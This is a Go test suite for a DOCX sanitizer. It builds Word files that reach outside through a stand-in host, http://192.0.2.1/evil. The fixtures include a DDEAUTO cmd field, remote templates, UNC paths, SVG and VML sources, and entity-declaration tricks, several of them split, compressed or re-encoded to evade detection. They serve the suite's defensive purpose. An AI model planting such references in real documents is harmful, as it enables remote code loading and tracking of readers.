package docx_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/xml"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/text/encoding/unicode"

	"sheaf/internal/docx"
	"sheaf/internal/docx/docxtest"
)

const evil = "http://192.0.2.1/evil"

// sanitize returns what Write writes without edits.
func sanitize(t *testing.T, b []byte) []byte {
	t.Helper()
	out, err := trySanitize(b, docx.Limits{})
	require.NoError(t, err)
	return out
}

func trySanitize(b []byte, lim docx.Limits) ([]byte, error) {
	d, err := docx.Open(bytes.NewReader(b), int64(len(b)), lim)
	if err != nil {
		return nil, err
	}
	var out bytes.Buffer
	err = d.Write(&out, nil)
	return out.Bytes(), err
}

func parts(t *testing.T, b []byte) map[string]string {
	t.Helper()
	parts, err := docxtest.Unpack(b)
	require.NoError(t, err)
	return parts
}

func svg(inside string) string {
	return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">` + inside + `</svg>`
}

func svgPicture(data string) *docxtest.Doc { return docxtest.New().Part("word/media/image1.png", data) }

func compressed(s string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = z.Write([]byte(s))
	_ = z.Close()
	return b.String()
}

func utf16(t *testing.T, s string) string {
	s, err := unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder().String(s)
	require.NoError(t, err)
	return s
}

func chunk(inner *docxtest.Doc) *docxtest.Doc {
	d := docxtest.New()
	id := d.Relationship("aFChunk", "chunk.docx", "")
	return d.XML(`<w:altChunk r:id="`+id+`"/>`).Part("word/chunk.docx", string(inner.Bytes()))
}

func relation(kind string) *docxtest.Doc {
	d := docxtest.New().Paragraph("text")
	d.Relationship(kind, evil, "External")
	return d
}

func splitField(runs ...string) *docxtest.Doc {
	return docxtest.New().XML(`<w:p><w:r><w:fldChar w:fldCharType="begin"/>` + strings.Join(runs, "") +
		`<w:fldChar w:fldCharType="separate"/><w:t>kept</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>`)
}

func misusedHyperlink() *docxtest.Doc {
	d := docxtest.New().Hyperlink("page", "https://example.org/kept")
	id := d.Relationship("hyperlink", evil, "External")
	return d.XML(`<w:p><w:r><a:blip x:link="` + id + `" xmlns:x="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:r></w:p>`)
}

// relationshipsOf is a document whose main part has these relationships, and this body.
func relationshipsOf(relationships, body string) *docxtest.Doc {
	return docxtest.New().Part("word/document.xml", docxtest.Document(body)).
		Part("word/_rels/document.xml.rels", docxtest.Relationships(relationships))
}

// TestSanitizeReadsIDsAsXML: a hyperlink that a picture uses is found however its id is spelt.
func TestSanitizeReadsIDsAsXML(t *testing.T) {
	for name, ids := range map[string][2]string{
		"control character":            {"rId\u0080", "rId&#x80;"},
		"control character, reference": {"rId&#128;", "rId\u0080"},
		"tab":                          {"r\tx", "r x"},
		"line break":                   {"r x", "r\r\nx"},
		"reference to a tab":           {"r&#9;x", "r x"},
		"space around":                 {"rId9", " rId9 "},
		"reference":                    {"rId&#x39;", "rId9"},
		"what HTML knows":              {"r&#x41;&amp;copy;", "rA&amp;copy;"},
	} {
		t.Run(name, func(t *testing.T) {
			requireCut(t, way{relationshipsOf(
				`<Relationship Id="`+ids[0]+`" Type="x/hyperlink" Target="`+evil+`" TargetMode="External"/>`,
				`<w:p><w:r><a:blip r:link="`+ids[1]+`"/></w:r></w:p>`), docx.MisusedHyperlink})
		})
	}
}

// way is a document and the way it reaches outside.
type way struct {
	doc *docxtest.Doc
	why docx.ExternalRef
}

func TestSanitizeCutsReferences(t *testing.T) {
	rels := func(attributes string) *docxtest.Doc {
		return docxtest.New().Part("word/_rels/header9.xml.rels",
			docxtest.Relationships(`<Relationship Id="a" Type="x/image" Target="`+evil+`" `+attributes+`/>`))
	}
	for name, c := range map[string]way{
		"linked picture":          {docxtest.New().LinkedPicture(evil), docx.LinkedPicture},
		"attached template":       {docxtest.New().AttachedTemplate(evil), docx.AttachedTemplate},
		"OLE link":                {relation("oleObject"), docx.ExternalPart},
		"sub-document":            {relation("subDocument"), docx.ExternalPart},
		"frame":                   {relation("frame"), docx.ExternalPart},
		"inserted document":       {relation("aFChunk"), docx.ExternalPart},
		"mail merge":              {relation("mailMergeSource"), docx.ExternalPart},
		"unknown type":            {relation("somethingNew"), docx.ExternalPart},
		"other part, other case":  {rels(`TargetMode="eXternal"`), docx.LinkedPicture},
		"no mode":                 {rels(``), docx.LinkedPicture},
		"hyperlink as picture":    {misusedHyperlink(), docx.MisusedHyperlink},
		"engine URL":              {docxtest.New().Hyperlink("x", "vnd.sun.star.expand:"+evil), docx.MisusedHyperlink},
		"field with the path":     {docxtest.New().Field(` FILENAME \p \* MERGEFORMAT `, "kept"), docx.OutsideField},
		"picture field":           {docxtest.New().Field(` INCLUDEPICTURE "`+evil+`" \d `, "kept"), docx.OutsideField},
		"text field":              {docxtest.New().Field(`includetext `+evil, "kept"), docx.OutsideField},
		"DDE field":               {docxtest.New().Field(` DDEAUTO cmd `+evil, "kept"), docx.OutsideField},
		"field in pieces":         {splitField(`<w:instrText> INCL</w:instrText>`, `<w:instrText>UDE&#84;EXT `+evil+`</w:instrText>`), docx.OutsideField},
		"field in plain text":     {splitField(`<w:t>LINK ` + evil + `</w:t>`), docx.OutsideField},
		"field in CDATA":          {splitField(`<w:instrText><![CDATA[LINK ` + evil + `]]></w:instrText>`), docx.OutsideField},
		"field in a field":        {splitField(`<w:instrText>IF 1</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>RD ` + evil + `</w:instrText><w:fldChar w:fldCharType="end"/>`), docx.OutsideField},
		"field after deep ones":   {splitField(strings.Repeat(`<w:fldChar w:fldCharType="begin"/>`, 80) + strings.Repeat(`<w:fldChar w:fldCharType="end"/>`, 80) + `<w:instrText>LINK ` + evil + `</w:instrText>`), docx.OutsideField},
		"field too deep":          {splitField(strings.Repeat(`<w:fldChar w:fldCharType="begin"/>`, 80) + `<w:instrText>LINK ` + evil + `</w:instrText>` + strings.Repeat(`<w:fldChar w:fldCharType="end"/>`, 80)), docx.OutsideField},
		"field in a simple field": {splitField(`<w:fldSimple w:instr="PAGE"><w:t>LINK ` + evil + `</w:t></w:fldSimple>`), docx.OutsideField},
		"deleted field":           {splitField(`<w:delInstrText>LINK ` + evil + `</w:delInstrText>`), docx.OutsideField},
		"field without end":       {docxtest.New().XML(`<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE ` + evil + `</w:instrText></w:r></w:p>`), docx.OutsideField},
		"simple field":            {docxtest.New().XML(`<w:p><w:fldSimple w:instr=" LINK ` + evil + `"><w:r><w:t>kept</w:t></w:r></w:fldSimple></w:p>`), docx.OutsideField},
		"simple field, svg first": {docxtest.New().XML(`<svg/><w:fldSimple w:instr=" LINK ` + evil + `"/>`), docx.OutsideField},
		"VML source":              {docxtest.New().XML(`<v:imagedata src="` + evil + `"/>`), docx.PictureSource},
		"VML link":                {docxtest.New().XML(`<v:fill o:href='` + evil + `'/>`), docx.PictureSource},
		"movie source":            {docxtest.New().XML(`<v:movie src="` + evil + `"/>`), docx.PictureSource},
		"stroke source":           {docxtest.New().XML(`<v:stroke althref="` + evil + `"/>`), docx.PictureSource},
		"background source":       {docxtest.New().XML(`<v:background src="` + evil + `"/>`), docx.PictureSource},
		"merge link":              {docxtest.New().XML(`<w:udl w:val="` + evil + `"/>`), docx.MailMergeSource},
		"path beside":             {relationshipsOf(`<Relationship Id="a" Type="x/image" Target="a/`+evil+`" TargetMode="External"/>`, `<w:p/>`), docx.LinkedPicture},
		"path of a server":        {relationshipsOf(`<Relationship Id="a" Type="x/image" Target="\\192.0.2.1\`+evil+`"/>`, `<w:p/>`), docx.LinkedPicture},
		"merge query":             {docxtest.New().XML(`<w:query w:val="` + evil + `"/>`), docx.MailMergeSource},
		"merge connection":        {docxtest.New().XML(`<w:connectString w:val="` + evil + `"/>`), docx.MailMergeSource},
	} {
		t.Run(name, func(t *testing.T) { requireCut(t, c) })
	}
}

func TestSanitizeCutsDrawingsAndDisguises(t *testing.T) {
	document := func(head, body string) string {
		return head + strings.TrimPrefix(docxtest.Document(body), `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`)
	}
	nested := svg(`<image xlink:href="file:///` + evil + `"/>`)
	for name, c := range map[string]way{
		"drawing":                {svgPicture(svg(`<image xlink:href="` + evil + `"/>`)), docx.DrawingReference},
		"drawing without prefix": {svgPicture(svg(`<use href = "` + evil + `#x"/>`)), docx.DrawingReference},
		"drawing, image first":   {svgPicture(`<x><image href="` + evil + `"/><svg/></x>`), docx.DrawingReference},
		"drawing after space":    {svgPicture(strings.Repeat(" ", 5000) + svg(`<image href="`+evil+`"/>`)), docx.DrawingReference},
		"compressed drawing":     {svgPicture(compressed(svg(`<image href="` + evil + `"/>`))), docx.DrawingReference},
		"drawing in a drawing": {svgPicture(svg(`<image href="data:image/png;base64,` + base64.StdEncoding.EncodeToString([]byte(nested)) + `"/>`)),
			docx.DrawingReference},
		"drawing by default":         {svgPicture(`<!DOCTYPE svg [<!ATTLIST image href CDATA "` + evil + `">]>` + svg(`<image/>`)), docx.Declarations},
		"drawing by entity":          {svgPicture(`<!DOCTYPE svg [<!ENTITY i "<image h='` + evil + `'/>">]>` + svg(`&i;`)), docx.Declarations},
		"field in a compressed file": {svgPicture(compressed(docxtest.Document(`<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>DDE ` + evil + `</w:instrText></w:p>`))), docx.OutsideField},
		"UTF-16 drawing":             {svgPicture(utf16(t, svg(`<image href="`+evil+`"/>`))), docx.OddEncoding},
		"UTF-16 relationships":       {docxtest.New().Part("word/_rels/x.xml.rels", utf16(t, docxtest.Relationships(`<Relationship Target="`+evil+`"/>`))), docx.OddEncoding},
		"UTF-7":                      {docxtest.New().Part("word/document.xml", document(`<?xml version="1.0" encoding="UTF-7"?>`, "")), docx.OddEncoding},
		"Latin-1":                    {docxtest.New().Part("word/document.xml", document(`<?xml version="1.0" encoding='iso-8859-1'?>`, "<w:p/>")), docx.OddEncoding},
		"inserted document's":        {chunk(docxtest.New().LinkedPicture(evil)), docx.LinkedPicture},
		"inserted twice":             {chunk(chunk(docxtest.New().LinkedPicture(evil))), docx.LinkedPicture},
		"inserted too deep":          {chunk(chunk(chunk(docxtest.New()))), docx.OversizedPart},
		"drawing by a part of a tag": {svgPicture(`<!DOCTYPE svg [<!ENTITY i "HREF='` + evil + `'">]>` + svg(`<image/>`)), docx.Declarations},
		"declared relations": {docxtest.New().Part("word/_rels/x.xml.rels",
			`<!DOCTYPE R [<!ATTLIST Relationship TargetMode CDATA "External">]>`+docxtest.Relationships()), docx.Declarations},
	} {
		t.Run(name, func(t *testing.T) { requireCut(t, c) })
	}
}

// requireCut checks that the way out is seen, and gone from what Write writes.
func requireCut(t *testing.T, c way) {
	t.Helper()
	before := c.doc.Bytes()
	info, err := inspect(before, docx.Limits{})
	require.NoError(t, err)
	require.True(t, info.Unsafe)
	require.Contains(t, info.ExternalRefs, c.why)

	after := sanitize(t, before)
	info, err = inspect(after, docx.Limits{})
	require.NoError(t, err)
	require.False(t, info.Unsafe, info.ExternalRefs)
	requireNoEvil(t, after)
}

// requireNoEvil looks at every part, and at those of documents inside, and at their being XML still.
func requireNoEvil(t *testing.T, b []byte) {
	t.Helper()
	for name, data := range parts(t, b) {
		require.NotContains(t, data, evil, name)
		if strings.HasSuffix(name, ".docx") && data != "" {
			requireNoEvil(t, []byte(data))
		}
		if strings.HasSuffix(name, ".xml") || strings.HasSuffix(name, ".rels") {
			require.NoError(t, xml.Unmarshal([]byte(data), new(struct{})), name)
		}
	}
}

func TestSanitizeKeepsTheRest(t *testing.T) {
	d := rich().Hyperlink("page", "https://example.org/kept").AttachedTemplate(evil).Field(" INCLUDETEXT x ", "kept result")
	before, after := parts(t, d.Bytes()), parts(t, sanitize(t, d.Bytes()))
	require.Len(t, after, len(before))
	for name, data := range before {
		switch name {
		case "word/_rels/settings.xml.rels":
			data = strings.ReplaceAll(data, evil, "about:blank")
		case "word/document.xml":
			data = strings.ReplaceAll(data, " INCLUDETEXT x ", "")
			require.Contains(t, data, "kept result")
		}
		require.Equal(t, data, after[name], name)
	}
	require.Contains(t, after["word/_rels/document.xml.rels"], "https://example.org/kept")
}

func TestSanitizeKeepsLinksInUse(t *testing.T) {
	after := parts(t, sanitize(t, misusedHyperlink().Bytes()))["word/_rels/document.xml.rels"]
	require.Contains(t, after, "https://example.org/kept")
	require.Contains(t, after, `Target="about:blank"`)
}

func TestSanitizeKeepsDrawings(t *testing.T) {
	const bitmap = `<image href="data:image/png;base64,iVBORw0KGgoAAAA"/><use xlink:href="#a"/><a href="https://example.org/"><path/></a>`
	doctype := `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd" [<!ENTITY ns "http://www.w3.org/2000/svg">]>`
	info, err := inspect(svgPicture(doctype+svg(bitmap)).Bytes(), docx.Limits{})
	require.NoError(t, err)
	require.False(t, info.Unsafe, info.ExternalRefs)
}
